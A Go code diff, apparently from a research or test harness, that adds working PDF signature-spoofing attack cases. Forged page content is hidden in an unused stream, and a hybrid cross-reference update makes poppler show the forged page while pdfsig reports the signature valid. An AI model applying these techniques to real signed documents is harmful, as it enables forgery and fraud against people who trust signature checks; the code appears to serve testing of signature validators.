@@ -107,6 +107,11 @@ func structure(p *PKI, b *Base) ([]Case, error) {
 				Evidence{Shows: ForgedText, Hides: b.Marker})
 		},
 		func() ([]Case, error) {
+			doc, err := freeInTableInUseInStream(b.PDF)
+			return attack(ClassStructure, b, "forged page content hidden in an unused stream, page content free in a hybrid table and in use in its /XRefStm", doc, err,
+				Evidence{Shows: ForgedText, Hides: b.Marker})
+		},
+		func() ([]Case, error) {
 			doc, err := encryptedLater(b.PDF)
 			return attack(ClassStructure, b, "/Encrypt (RC4, empty user password) added by an update", doc, err, Evidence{Hides: b.Marker, Renders: true})
 		},
@@ -239,7 +244,7 @@ func cutInObjectStream(doc []byte, decrease bool) ([]byte, error) {
 // and pdftoppm fetch /Info when they open the file: they show the forged
 // page, and pdfsig the signature as valid.
 func rebuiltByPoppler(doc []byte) ([]byte, error) {
-	page, err := PageOf(doc, 1)
+	carrier, _, err := hiddenContent(doc)
 	if err != nil {
 		return nil, err
 	}
@@ -247,8 +252,7 @@ func rebuiltByPoppler(doc []byte) ([]byte, error) {
 	if err != nil {
 		return nil, err
 	}
-	hidden := fmt.Sprintf("\n%d 0 obj\n%s\nendobj\n", page.Contents, Stream("", forgedContent("F1")))
-	out, err := Append(doc, Update{Objects: map[int]string{n: Stream("", hidden)}})
+	out, err := Append(doc, Update{Objects: map[int]string{n: carrier}})
 	if err != nil {
 		return nil, err
 	}
@@ -262,6 +266,53 @@ func rebuiltByPoppler(doc []byte) ([]byte, error) {
 		return nil, errors.New("the trailer already has /Info")
 	}
 	return append(append(bytes.Clone(out[:at]), info...), out[at:]...), nil
+}
+
+// hiddenContent returns an unused stream object whose data holds, on
+// lines of their own, a definition of doc's page 1 content stream showing
+// the forged text: dead to a reader that parses the stream as a stream,
+// a definition to one that rebuilds the table line by line, as poppler
+// does (XRef::constructXRef).
+func hiddenContent(doc []byte) (string, Page, error) {
+	page, err := PageOf(doc, 1)
+	if err != nil {
+		return "", page, err
+	}
+	return Stream("", fmt.Sprintf("\n%d 0 obj\n%s\nendobj\n", page.Contents, Stream("", forgedContent("F1")))), page, nil
+}
+
+// freeInTableInUseInStream appends to doc a hybrid-reference update whose
+// table marks page 1's content stream free and whose /XRefStm stream
+// lists it in use where it is, the signed definition, next to
+// hiddenContent. qpdf, and kyso as qpdf, read a table's in-use entries,
+// then its stream, then its free entries: the signed content. poppler
+// reads the whole table before the stream, so the object is free; fetching
+// it fails, and poppler rebuilds the table line by line, finding the
+// forged definition in the unused stream.
+func freeInTableInUseInStream(doc []byte) ([]byte, error) {
+	carrier, page, err := hiddenContent(doc)
+	if err != nil {
+		return nil, err
+	}
+	head := fmt.Appendf(nil, "\n%d 0 obj", page.Contents)
+	signedAt := bytes.LastIndex(doc, head)
+	if signedAt < 0 {
+		return nil, errors.New("page 1's content is not a plain object")
+	}
+	n, err := Size(doc)
+	if err != nil {
+		return nil, err
+	}
+	out, err := Append(doc, Update{Form: Hybrid, Objects: map[int]string{n: carrier}, Remap: map[int]int64{page.Contents: int64(signedAt + 1)}})
+	if err != nil {
+		return nil, err
+	}
+	table := bytes.LastIndex(out, []byte("\nxref\n"))
+	if table < 0 {
+		return nil, errors.New("no table in the update")
+	}
+	table += len("\nxref\n")
+	return append(append(bytes.Clone(out[:table]), fmt.Sprintf("%d 1\n0000000000 00001 f\r\n", page.Contents)...), out[table:]...), nil
 }
 
 // passwordPad is the padding of ISO 32000-1, 7.6.3.3, Algorithm 2.
